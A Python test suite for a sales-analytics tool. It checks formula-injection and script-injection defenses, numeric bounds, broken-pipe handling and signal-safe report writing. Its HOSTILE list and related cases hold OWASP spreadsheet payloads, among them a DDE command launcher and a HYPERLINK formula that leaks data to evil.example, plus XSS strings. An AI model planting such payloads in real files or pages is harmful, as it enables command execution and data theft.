"""Hostile and unlucky inputs: a CRM export full of formulas and markup, amounts beyond any company,
a reader that closes stdout early, and report runs killed at any moment.

Every writer stores names as text (never a formula), every page escapes them, every amount is
bounded, and an interrupted run leaves the last good reports exactly as they were.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from salesanalytics.adapters import charts, io
from salesanalytics.adapters.cli import main
from salesanalytics.adapters.report import MANIFEST, ReportSpec, index_html, render_reports
from salesanalytics.core.exceptions import DataError, PlanError

from .conftest import SMALL_PLAN

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).resolve().parent / "notebooks"
EXE = [sys.executable, "-m", "salesanalytics"]

#: names a hostile CRM export may carry (OWASP's examples, markup, a mathtext trap, control characters)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    "$\\frac$ 分公司",
    "北京\x07分公司",
]


def _plan(tmp_path: Path, names: list[str]) -> Path:
    data = copy.deepcopy(SMALL_PLAN)
    data["branches"] = [{"branch": n, "headcount": 5 + i, "gp_per_head_month": 2000} for i, n in enumerate(names)]
    path = tmp_path / "plan.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


# ----------------------------------------------------------------------------
# 1. formula injection: no workbook or CSV ever holds a live formula
# ----------------------------------------------------------------------------
def test_backward_workbook_stores_hostile_names_as_text(tmp_path, capsys):
    out = tmp_path / "tasks.xlsx"
    assert main(["backward", str(_plan(tmp_path, HOSTILE)), "--out", str(out)]) == 0
    assert _formula_cells(out) == []
    tasks, _ = io._read_xlsx(out, "任务明细")
    assert set(HOSTILE) <= set(tasks.iloc[:, 1])  # the branch column, exactly as written


def test_backward_csv_protects_formulas_and_reads_back(tmp_path, capsys):
    out = tmp_path / "tasks.csv"
    assert main(["backward", str(_plan(tmp_path, HOSTILE)), "--out", str(out)]) == 0
    raw = out.read_text(encoding="utf-8-sig")
    for line in raw.splitlines()[1:]:
        cells = next(csv.reader([line]), [])
        assert not cells or cells[1][:1] not in "=+-@\t\r", line  # every dangerous cell starts with the apostrophe
    back = io.read_targets(out)
    assert set(back["branch"]) == set(HOSTILE)


# ----------------------------------------------------------------------------
# property: random names through every writer come back unchanged, no formula, no markup
# ----------------------------------------------------------------------------
_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "'=", " =", "＝", "<script>", "</td><td>", "&amp;", "$", "北京", "\x00", "_x0041_"]
NAMES = st.one_of(
    st.text(min_size=1, max_size=12),
    st.builds(lambda p, t: p + t, st.sampled_from(_PREFIXES), st.text(max_size=10)),
    st.text(alphabet=st.sampled_from("上海北京分公司王伟李娜=+-@<>&\"'\t\r\n\x1f"), min_size=1, max_size=10),
).filter(lambda s: s.strip() != "")


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)

    def handle_data(self, data):
        self.text.append(data)


def _parse(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser


@given(names=st.lists(NAMES, min_size=1, max_size=6, unique=True))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_any_name_survives_every_writer(names, tmp_path_factory):
    folder = tmp_path_factory.mktemp("names")
    roster = pd.DataFrame({"branch": names, "salesperson": names[::-1], "weight": np.arange(len(names), dtype=float) + 0.5})
    for suffix in (".csv", ".xlsx", ".parquet"):
        path = io.write_table(roster, folder / f"roster{suffix}")
        back = io.read_roster(path)
        assert back["branch"].tolist() == names, suffix
        assert back["salesperson"].tolist() == names[::-1], suffix
        assert back["weight"].tolist() == roster["weight"].tolist(), suffix  # numbers stay numbers
    wide = io.write_excel({"wide": roster.set_index("branch")[["weight"]].T, "tidy": roster}, folder / "wide.xlsx")
    assert _formula_cells(wide) == []
    header = [io.xlsx_untext(c.value) for c in openpyxl.load_workbook(wide)["wide"][1]]
    assert header == names

    manifest = {"quarter": "2026Q3", "status": "ok", "lang": "zh", "rendered_at_utc": "2026-10-01 06:00:00", "seconds": 1.0,
                "package_version": "1", "data_dir": names[0], "data_fingerprint_sha256": "ab" * 32,
                "data_files": [{"file": n, "sha256": "cd" * 32} for n in names], "parameters": {n: n for n in names},
                "reports": [{"name": "x", "title": n, "notebook": "x.ipynb", "file": "x.html", "seconds": 1.0} for n in names],
                "failure": None, "last_good": None}
    pages = {
        "table": (charts.table_html(roster, index=False), {"table", "thead", "tbody", "tr", "th", "td"}),
        "tabs": (charts.html_tabs({n: charts.html_text(n) for n in names}), {"style", "div", "input", "label"}),
        "index": (index_html(manifest, "zh"), {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "table", "tr", "th", "td",
                                               "a", "code", "details", "summary"}),
    }
    for kind, (page, allowed) in pages.items():
        parsed = _parse(page)
        assert parsed.tags <= allowed, (kind, parsed.tags - allowed)
        text = " ".join("".join(parsed.text).split())  # a browser collapses white space too
        for name in names:
            if not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in name):  # pandas shows control characters escaped
                assert " ".join(name.split()) in text, (kind, name)


@pytest.mark.parametrize("name", ["$\\frac$", "$x$", "a$b", "100$ & <b>", "北京\x07", "\u202eevil", "长" * 40])
def test_charts_draw_any_name_as_written(name):
    fig = charts.bars(pd.Series([1.0, 2.0], index=[name, "上海"]), "zh", title_key="chart_scores")
    assert charts.to_png(fig).startswith(b"\x89PNG")
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert charts.chart_text(name) in labels


# ----------------------------------------------------------------------------
# 2. script injection: every data text in HTML is escaped
# ----------------------------------------------------------------------------
def test_forecaster_notes_and_headings_are_escaped(monkeypatch):
    shown = []
    monkeypatch.setattr(charts, "show_html", shown.append)
    charts.show_text("note about <script>alert(1)</script> & co")
    charts.show_heading("<img src=x onerror=alert(1)>")
    page = "".join(shown)
    assert "<script>" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co" in page
    assert _parse(page).tags == {"pre", "h2"}


def test_index_page_escapes_report_titles_and_parameters():
    manifest = {"quarter": "2026Q3", "status": "FAILED", "lang": "en", "rendered_at_utc": "x", "seconds": 1, "package_version": "1",
                "data_dir": "<b>", "data_fingerprint_sha256": "f", "data_files": [], "parameters": {"<i>": "<script>"},
                "reports": [], "last_good": None,
                "failure": {"notebook": "<script>.ipynb", "report": "r", "cell": 1, "error": "<script>alert(1)</script>", "source": "<x>", "kept": None}}
    page = index_html(manifest, "en")
    assert "<script>" not in page and "<i>" not in page and "<b>" not in page and "<x>" not in page


# ----------------------------------------------------------------------------
# 3. overflow: bounded amounts, a clear error, never a wrapped int64
# ----------------------------------------------------------------------------
def _actuals(tmp_path: Path, amount: str) -> Path:
    path = tmp_path / "actuals.csv"
    path.write_text(f"date,branch,revenue\n2026-01-05,北京,{amount}\n2026-01-06,上海,100\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("amount", ["1e17", "-1e17", "9.3e16", "1e300"])
def test_track_refuses_an_actual_beyond_the_bound(amount, tmp_path, capsys):
    plan = _plan(tmp_path, ["北京", "上海"])
    out = tmp_path / "tracking.csv"
    code = main(["track", "--targets", str(plan), "--actuals", str(_actuals(tmp_path, amount)), "--as-of", "2026-01-31", "--out", str(out)])
    captured = capsys.readouterr()
    assert code == 2
    assert "actuals.csv, column revenue, row 2:" in captured.err and "beyond the largest amount the tool accepts" in captured.err
    assert "Traceback" not in captured.err and "invalid value" not in captured.err
    assert "-92,233,720" not in captured.out and not out.exists()


def test_tracker_refuses_a_frame_beyond_the_bound():
    from salesanalytics.methods.tracking import Tracker

    targets = pd.DataFrame({"month": pd.date_range("2026-01-01", periods=12, freq="MS"), "branch": "北京", "sales_task": 1000.0})
    actuals = pd.DataFrame({"date": pd.to_datetime(["2026-01-05", "2026-01-06"]), "branch": "北京", "revenue": [1e17, 1.0]})
    with pytest.raises(DataError, match="beyond the largest amount"):
        Tracker(as_of="2026-01-31").fit(targets, actuals)


@pytest.mark.parametrize("amount", [2e18, 9.3e18, 1e20, 1e25, 1e26, 1e30])
def test_backward_targets_beyond_the_bound_name_the_key(amount, tmp_path, capsys):
    data = copy.deepcopy(SMALL_PLAN)
    data["target"]["amount_yuan"] = amount
    path = tmp_path / "plan.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(PlanError, match=r"plan\.yaml\.target\.amount_yuan: .* beyond the largest amount"):
        io.read_plan(path)
    assert main(["backward", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: plan.yaml.target.amount_yuan") and "Traceback" not in err and "InvalidOperation" not in err


def test_the_largest_target_splits_to_the_fen(tmp_path):
    from salesanalytics.methods.backward import BackwardPlanner

    data = copy.deepcopy(SMALL_PLAN)
    data["target"] = {"kind": "revenue", "amount_yuan": 10**15}
    path = tmp_path / "plan.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    tasks = BackwardPlanner(io.read_plan(path)).fit().tasks()
    assert int(tasks["sales_task_fen"].sum()) == 10**17


# ----------------------------------------------------------------------------
# 6. outputs are written before printing: a closed stdout never loses --out
# ----------------------------------------------------------------------------
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_closed_stdout_still_writes_the_output(suffix, tmp_path):
    plan = _plan(tmp_path, ["北京", "上海"])
    out = tmp_path / f"tasks{suffix}"
    proc = subprocess.Popen([*EXE, "backward", str(plan), "--out", str(out)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    proc.stdout.read(10)
    proc.stdout.close()  # what `| head -c 10` does
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 0
    assert out.exists() and "Traceback" not in err and "BrokenPipe" not in err
    if suffix == ".csv":
        assert io.read_targets(out)["branch"].nunique() == 2
    else:
        assert _formula_cells(out) == []  # a whole workbook: openpyxl opens it


def test_head_in_a_shell_pipeline_keeps_the_file(tmp_path):
    plan = _plan(tmp_path, ["北京"])
    out = tmp_path / "tasks.csv"
    proc = subprocess.run(["bash", "-c", f"set -o pipefail; {' '.join(EXE)} backward {plan} --out {out} | head -1"],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert len(proc.stdout.splitlines()) == 1 and out.exists()


# ----------------------------------------------------------------------------
# 5. and 7. report runs: --only keeps the other pages; kills at any moment keep the last good set
# ----------------------------------------------------------------------------
OK_A = ReportSpec("alpha", "ok.ipynb", "title_backward_plan")
OK_B = ReportSpec("beta", "ok.ipynb", "title_executive_summary")


def _set_state(folder: Path) -> dict:
    """The files of a report set and their bytes (the lock and hidden files left out)."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file() and not p.name.startswith(".")}


def _is_good(folder: Path) -> bool:
    try:
        manifest = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return False
    return manifest["status"] == "ok" and all((folder / r["file"]).is_file() for r in manifest["reports"]) and (folder / "index.html").is_file()


def _temporaries(out: Path) -> list[str]:
    """Leftover temporary folders in ``out`` (none when a stop came before the run made ``out`` at all)."""
    return sorted(p.name for p in out.iterdir() if ".tmp-" in p.name or ".old-" in p.name) if out.exists() else []


@pytest.mark.slow
def test_only_updates_that_page_and_keeps_the_others(tmp_path):
    render_reports("2026Q2", out_dir=tmp_path, notebooks_dir=FIXTURES, reports=[OK_A], parameters={"label": "甲"})
    first = _set_state(tmp_path / "2026Q2")
    render_reports("2026Q2", out_dir=tmp_path, notebooks_dir=FIXTURES, reports=[OK_B], parameters={"label": "乙"})
    folder = tmp_path / "2026Q2"
    assert (folder / "alpha.html").read_bytes() == first["alpha.html"]  # kept byte for byte
    assert "乙" in (folder / "beta.html").read_text(encoding="utf-8")
    manifest = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    assert [r["name"] for r in manifest["reports"]] == ["alpha", "beta"]
    index = (folder / "index.html").read_text(encoding="utf-8")
    assert "href='alpha.html'" in index and "href='beta.html'" in index
    assert _temporaries(tmp_path) == []


def _kernels_of(pid: int) -> list[int]:
    """Kernel processes started by the driver ``pid`` (jupyter_client sets JPY_PARENT_PID in their environment)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            env = (entry / "environ").read_bytes()
        except OSError:
            continue
        if f"JPY_PARENT_PID={pid}\0".encode() in env:
            found.append(int(entry.name))
    return found


def _wait_gone(pid: int, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not _kernels_of(pid):
            return True
        time.sleep(0.2)
    return not _kernels_of(pid)


@pytest.fixture
def cli_notebooks(tmp_path):
    """A notebooks folder whose two reports are the tiny fixture (a few seconds each, kernel start included)."""
    folder = tmp_path / "notebooks"
    folder.mkdir()
    for name in ("executive_summary", "backward_plan"):
        shutil.copy(FIXTURES / "ok.ipynb", folder / f"{name}.ipynb")
    shutil.copy(FIXTURES / "sleepy.ipynb", folder / "scorecard.ipynb")
    return {**os.environ, "SALESANALYTICS_NOTEBOOKS": str(folder)}


def _sigint_as_at_a_terminal() -> None:
    """In the child before it runs: Ctrl-C's default action.  A background job of a shell without job control
    (``pytest ... &`` in a script, nohup) starts with SIGINT ignored, Python keeps it ignored, and the run could
    not be stopped the way a user at a terminal stops it."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _report(env, out, *extra):
    return subprocess.Popen([*EXE, "report", "--out", str(out), "--quarter", "2026Q2", "--jobs", "1", *extra],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                            preexec_fn=_sigint_as_at_a_terminal)


@pytest.mark.slow
def test_killed_report_runs_keep_the_last_good_set(tmp_path, cli_notebooks):
    """SIGTERM and SIGKILL at random moments of `report --only`: the set in place is always a whole good one
    (the previous, or the new one if the kill came after the swap); SIGTERM cleans up at once, and the next
    run removes what SIGKILL left.  Two runs at once: the second is refused."""
    seed = int(time.time())
    rng = random.Random(seed)
    out = tmp_path / "reports"
    folder = out / "2026Q2"
    good = _report(cli_notebooks, out, "--only", "executive_summary", "--only", "backward_plan")
    assert good.wait(timeout=180) == 0, good.stderr.read()
    state = _set_state(folder)
    for round_, sig in enumerate([signal.SIGTERM, signal.SIGKILL, signal.SIGTERM, signal.SIGKILL]):
        run = _report(cli_notebooks, out, "--only", "backward_plan")
        time.sleep(rng.uniform(0.3, 5.0))
        run.send_signal(sig)
        code = run.wait(timeout=30)
        err = run.stderr.read()
        where = f"seed {seed}, round {round_}, signal {sig.name}, exit {code}: {err[-300:]}"
        assert _is_good(folder), where
        now = _set_state(folder)
        assert now == state or (now["executive_summary.html"] == state["executive_summary.html"] and code in (0, -sig)), where
        state = now
        # a SIGTERM'd run leaves nothing of its own; what an earlier SIGKILL left stays until a run takes the
        # quarter's lock (a stop that comes before that point is not allowed to touch other runs' folders)
        own = [n for n in _temporaries(out) if f".tmp-{run.pid}-" in n or f".old-{run.pid}-" in n]
        if sig == signal.SIGTERM and code == -signal.SIGTERM:
            # the signal came before the interpreter reached the command (its handler not installed yet):
            # nothing was started, so nothing may be left
            assert own == [], where
        elif sig == signal.SIGTERM and code != 0:
            assert code == 143 and "stopped by a signal" in err and "Traceback" not in err, where
            assert own == [], where
        assert _wait_gone(run.pid, 10), where  # no kernel outlives its driver
    # two runs at once: while one holds the quarter (a cell that sleeps), a second is refused and changes nothing
    first = _report(cli_notebooks, out, "--only", "scorecard")
    deadline = time.monotonic() + 90
    while not [n for n in _temporaries(out) if f"-{first.pid}-" in n] and time.monotonic() < deadline:
        time.sleep(0.1)
    before = _set_state(folder)
    second = _report(cli_notebooks, out, "--only", "backward_plan")
    assert second.wait(timeout=120) == 1
    assert "another run of 2026Q2" in second.stderr.read()
    assert _set_state(folder) == before
    first.send_signal(signal.SIGTERM)
    assert first.wait(timeout=30) == 143
    # the next good run: the pages updated and kept, nothing left behind by any of the kills
    final = _report(cli_notebooks, out, "--only", "backward_plan")
    assert final.wait(timeout=180) == 0, final.stderr.read()
    assert _is_good(folder) and _temporaries(out) == []
    manifest = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    assert [r["name"] for r in manifest["reports"]] == ["executive_summary", "backward_plan"]


@pytest.mark.slow
def test_ctrl_c_stops_a_hung_report_within_seconds(tmp_path, cli_notebooks):
    out = tmp_path / "reports"
    run = _report(cli_notebooks, out, "--only", "scorecard")
    deadline = time.monotonic() + 90
    while not _kernels_of(run.pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _kernels_of(run.pid), "the kernel never started"
    time.sleep(2)  # the notebook is now sleeping in a cell
    started = time.monotonic()
    run.send_signal(signal.SIGINT)
    code = run.wait(timeout=30)
    stopped = time.monotonic() - started
    assert code == 130 and stopped < 5, (code, stopped)
    assert "interrupted" in run.stderr.read()
    assert _wait_gone(run.pid, 2) and _temporaries(out) == []
    assert not (out / "2026Q2").exists()  # nothing was half-written


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the lost interrupt, on purpose
def test_a_stop_whose_interrupt_python_lost_is_still_acted_on():
    """Ctrl-C handled inside a weakref callback: Python prints "Exception ignored" and goes on; the driver's
    notes see it, so its wait for the pages raises the interrupt after all (exit 130, not a hung run)."""
    import gc
    import weakref

    from salesanalytics.adapters import stops as S

    before = {s: signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)}
    signal.signal(signal.SIGINT, signal.default_int_handler)  # Python's own, also when pytest runs under nohup

    def stopping(number, frame):  # as the CLI's SIGTERM handler
        raise S.Stopped(number)

    signal.signal(signal.SIGTERM, stopping)
    notes = S.noting()
    try:
        class Thing:
            pass

        def callback():  # the signal arrives inside the callback, and Python runs its handler there
            os.kill(os.getpid(), signal.SIGINT)
            for _ in range(100_000):
                pass

        thing = Thing()
        weakref.finalize(thing, callback)
        del thing
        gc.collect()
        assert notes.came == [signal.SIGINT]  # the handler ran (and its KeyboardInterrupt was printed, not raised)
        with pytest.raises(KeyboardInterrupt):
            S.act_on_lost(notes)
        # a lost SIGTERM is raised again by its own handler (the CLI's stop: exit 143, not 130)
        with pytest.raises(S.Stopped) as stopped:
            S.act_on_lost(S.Notes([signal.SIGTERM], notes.handlers))
        assert stopped.value.signum == signal.SIGTERM
        S.act_on_lost(S.Notes([], notes.handlers))  # nothing came: nothing happens
        # a stop that is not lost acts as before, and is noted too
        with pytest.raises(KeyboardInterrupt):
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(1)
        assert notes.came == [signal.SIGINT, signal.SIGINT]
    finally:
        notes.restore()
        signal.signal(signal.SIGTERM, before[signal.SIGTERM])
        signal.signal(signal.SIGINT, before[signal.SIGINT])
    assert {s: signal.getsignal(s) for s in before} == before


def test_long_work_of_the_driver_acts_on_a_lost_stop_within_a_poll():
    """The quarter's state is computed while the kernels start; a Ctrl-C lost inside it (see above) used to be
    acted on only when it ended (25 s on a loaded machine, the Ctrl-C test above timing out).  Run through
    stops.run_acting_on_lost, the wait raises within a poll while the work goes on in the background."""
    from salesanalytics.adapters import stops as S

    lost = S.Notes([signal.SIGINT], {signal.SIGINT: signal.default_int_handler})  # as noting() leaves a lost Ctrl-C
    release = threading.Event()
    started = time.monotonic()
    with pytest.raises(KeyboardInterrupt):
        S.run_acting_on_lost(lambda: release.wait(30), lost, 0.05)
    assert time.monotonic() - started < 2
    release.set()
    # nothing lost: the work's result, or its error, as if it had run here
    calm = S.Notes([], {})
    assert S.run_acting_on_lost(lambda: 42, calm, 0.05) == 42
    with pytest.raises(ValueError, match="bad data"):
        S.run_acting_on_lost(lambda: (_ for _ in ()).throw(ValueError("bad data")), calm, 0.05)
